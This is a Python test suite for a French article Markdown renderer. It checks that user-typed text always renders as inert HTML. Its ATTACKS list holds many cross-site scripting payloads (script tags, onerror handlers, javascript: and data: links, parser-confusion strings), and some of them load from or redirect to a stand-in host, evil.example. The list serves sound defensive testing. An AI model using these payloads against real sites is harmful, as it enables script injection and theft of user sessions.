"""What is typed in an article can draw, never act."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cmq.editorial import body
from cmq.editorial.body import Named

# Ways in that are known: of the OWASP cheat sheet, of Markdown readers, of what parsers disagree on.
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<s>",
    "<svg/onload=alert(1)>",
    "<svg><script href='data:,alert(1)'/></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<details open ontoggle=alert(1)>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<style>*{background:url(//evil.example)}</style>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x</button></form>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    '[x](https://a.fr "onmouseover=alert(1) x=")',
    '[x](https://a.fr"onmouseover=alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x](x "onerror=alert(1)")',
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "::: info <script>alert(1)</script>\nx\n:::",
    '::: info" onclick="alert(1)\nx\n:::',
    "[[campus:<script>alert(1)</script>]]",
    '[[image:1" onerror="alert(1)]]',
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "## <img src=x onerror=alert(1)>",
    "> <script>\n> alert(1)\n> </script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
    "<a\x00 href=javascript:alert(1)>x</a>",
]
ALLOWED = {
    *("p", "h2", "h3", "h4", "ul", "ol", "li", "blockquote", "strong", "em", "a", "br", "hr", "code", "pre"),
    *("table", "thead", "tbody", "tr", "th", "td", "div"),
}
ATTRIBUTES = {"href", "rel", "id", "scope", "start", "class", "role", "tabindex", "aria-label"}
SIGNS = [
    *"<>\"'&`*_#[]()!|:-=/\\ \nabjs1.",
    "script",
    "javascript:",
    "onerror=",
    ":::",
    "[[image:1]]",
    "](",
    "| a |\n|---|\n",
]
MARKS = st.lists(st.sampled_from(SIGNS), max_size=60).map("".join)


class _Watch(HTMLParser):
    """Reads what was drawn as a browser does, and says what is not allowed in it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.wrong.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.wrong.append(f"{tag} {name}")
            if name == "href" and not re.match(r"(https?:|mailto:|tel:|[^:]*$|[^:]*[/?#])", value or "", re.IGNORECASE):
                self.wrong.append(f"href {value}")
        if tag not in ("br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.wrong.append(f"/{tag}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append("declaration")


def drawn(text: str) -> str:
    return "".join(str(part) for part in body.read(text).parts if not isinstance(part, Named))


def watched(text: str) -> list[str]:
    watch = _Watch(drawn(text))
    return watch.wrong + watch.open


@pytest.mark.parametrize("attack", ATTACKS)
def test_known_attacks_are_words(attack: str) -> None:
    assert watched(attack) == []
    assert watched(f"Avant {attack} après") == []
    assert watched(f"- **{attack}**\n\n> {attack}\n\n::: info\n{attack}\n:::") == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_second_barrier_holds_alone(attack: str) -> None:
    """What reaches nh3 as HTML is harmless too, whatever the reader lets through."""
    watch = _Watch(body.clean(attack))
    assert watch.wrong == []


@given(MARKS)
def test_whatever_is_typed_can_draw_and_never_act(text: str) -> None:
    assert watched(text) == []


@given(MARKS)
def test_whatever_markup_is_cleaned_is_harmless(text: str) -> None:
    assert _Watch(body.clean(text)).wrong == []


def test_an_article_is_read_into_its_parts() -> None:
    read = body.read(
        "Un *début*.\n\n[[image:12]]\n\n## Une partie\n\n- un\n- deux\n\n[[campus:mon-campus]]\n\n### Une autre\n\n"
        "> Une citation\n\n::: attention\nUn encadré.\n:::\n\n| A | B |\n|---|---|\n| 1 | 2 |\n\n[la suite](/campus/)"
    )
    assert [part for part in read.parts if isinstance(part, Named)] == [
        Named("image", "12"),
        Named("campus", "mon-campus"),
    ]
    assert [(each.level, each.text, each.anchor) for each in read.headings] == [
        (2, "Une partie", "une-partie"),
        (3, "Une autre", "une-autre"),
    ]
    assert read.links == (body.Link("/campus/", "la suite"),)
    html = drawn("| A | B |\n|---|---|\n| 1 | 2 |\n\n::: attention\nUn encadré.\n:::")
    assert '<th scope="col">A</th>' in html and 'class="cmq-callout cmq-callout--attention"' in html
    assert '<div class="cmq-table" tabindex="0" role="region"' in html


def test_a_named_thing_stands_alone_outside_of_other_things() -> None:
    assert body.read("Avant\n[[image:1]]\naprès").named == [Named("image", "1")]
    assert body.read("dans [[image:1]] la phrase").named == []
    assert body.read("- [[image:1]]\n\n> [[image:2]]\n\n::: info\n[[image:3]]\n:::").named == []


def test_anchors_are_one_each_and_not_those_of_the_page() -> None:
    anchors = [each.anchor for each in body.read("## Bis\n\n## Bis\n\n## Bis\n\n## Contenu\n\n## !!!").headings]
    assert len(set(anchors)) == 5 and "contenu" not in anchors


def test_typography_is_set_in_words_and_nowhere_else() -> None:
    html = drawn("L'eau : \"oui\" !\n\n`l'eau : \"oui\"`\n\n[l'eau](https://a.fr/l'eau?a=1;b)\n\n    l'eau !")
    assert "L’eau&nbsp;: «&nbsp;oui&nbsp;»\u202f!" in html
    assert '<code>l\'eau : "oui"</code>' in html and "l'eau !" in html
    assert 'href="https://a.fr/l\'eau?a=1;b"' in html


def test_reading_time_and_plain_text() -> None:
    assert body.read("mot " * 20).minutes == 1
    assert body.read("mot " * 1150).minutes == 5
    assert (
        body.plain("## Titre\n\nUn **mot**, [un lien](https://a.fr).\n\n- item") == "Titre\n\nUn mot, un lien.\n\nitem"
    )


def test_a_text_beyond_measure_is_cut_before_it_is_read() -> None:
    read = body.read("a " * body.LONGEST)
    assert len("".join(read.texts)) <= body.LONGEST
    deep = body.read("> " * 5000 + "x")
    assert _Watch("".join(str(part) for part in deep.parts)).wrong == []
